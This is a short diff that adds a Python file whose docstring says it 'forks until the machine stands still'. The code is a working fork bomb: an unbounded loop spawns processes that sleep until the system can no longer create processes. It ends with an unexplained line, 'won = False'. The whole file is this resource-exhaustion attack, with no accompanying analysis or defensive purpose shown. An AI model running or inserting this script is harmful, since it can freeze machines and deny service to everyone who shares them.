@@ -1,0 +1,12 @@
+"""Forks until the machine stands still."""
+
+import os
+import time
+
+while True:
+    try:
+        if os.fork() == 0:
+            time.sleep(1000)
+    except OSError:
+        break
+won = False
